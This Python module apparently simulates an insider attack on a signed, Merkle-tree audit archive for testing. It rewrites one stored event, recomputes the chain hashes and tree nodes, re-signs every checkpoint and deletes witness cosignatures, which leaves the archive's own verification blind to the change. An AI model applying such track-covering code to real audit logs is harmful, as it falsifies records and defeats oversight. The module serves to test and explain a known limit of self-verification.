"""The insider attack of issue 22: with the archive's own signing key and write access to its
database, rewrite one stored event, then make everything the archive can check agree again —
the stream's chain links, the Merkle leaves and nodes, every checkpoint re-signed — and drop
the witness cosignatures that no longer fit. `audit verify` then finds nothing: only what was
kept outside (a witness's state, a mirror, an old package or checkpoint) can tell."""

from __future__ import annotations

from typing import Any
from uuid import UUID

from archive.services import Services
from ledger import merkle
from ledger.chain import GENESIS, event_hash
from ledger.checkpoint import checkpoint_extensions, sign_checkpoint, split_note


def rewrite_event(svc: Services, oid: UUID, version: int, old: bytes, new: bytes) -> None:
    """Replace `old` by `new` in the state of event (oid, version), and cover the tracks."""
    db, key, origin = svc.db, svc.signing.private(), svc.settings.origin
    nid = "rowid" if db.dialect == "sqlite" else "notification_id"
    with db.tx() as tx:
        rows = tx.all(
            f"SELECT {nid} AS pos, originator_version AS v, topic, state FROM {db.events_table} "
            "WHERE originator_id=? ORDER BY originator_version",
            (db.oid(oid),),
        )
        prev = GENESIS
        for r in rows:
            state = bytes(r["state"])
            if r["v"] == version:
                if old not in state:
                    raise ValueError(f"{old!r} is not in v{version}")
                state = state.replace(old, new, 1)
                tx.run(
                    f"UPDATE {db.events_table} SET state=? WHERE originator_id=? "
                    "AND originator_version=?",
                    (state, db.oid(oid), version),
                )
            h = event_hash(prev, oid, r["v"], r["topic"], state)
            tx.run(
                "UPDATE event_chain SET prev_hash=?, hash=? WHERE originator_id=? "
                "AND originator_version=?",
                (prev, h, db.oid(oid), r["v"]),
            )
            tx.run("UPDATE ledger_leaves SET event_hash=? WHERE notification_id=?", (h, r["pos"]))
            prev = h
        _rebuild_tree_and_resign(tx, origin, key)


def _rebuild_tree_and_resign(tx: Any, origin: str, key: Any) -> None:
    leaves = [
        merkle.hash_leaf(bytes(r["event_hash"]))
        for r in tx.all("SELECT event_hash FROM ledger_leaves ORDER BY leaf_index")
    ]
    builder = merkle.TreeBuilder()
    nodes = [node for h in leaves for node in builder.append(h)]
    tx.run("DELETE FROM ledger_nodes")
    tx.many("INSERT INTO ledger_nodes VALUES (?,?,?)", nodes)
    source = merkle.memory_source(leaves)
    for r in tx.all("SELECT id, tree_size, note FROM ledger_checkpoints"):
        size = int(r["tree_size"])
        root = merkle.root(size, source)
        extensions = checkpoint_extensions(split_note(str(r["note"]))[0])
        note = sign_checkpoint(origin, size, root, key, extensions).note
        tx.run("UPDATE ledger_checkpoints SET root=?, note=? WHERE id=?", (root, note, r["id"]))
    tx.run("DELETE FROM ledger_cosignatures")  # they would no longer verify: the insider hides them
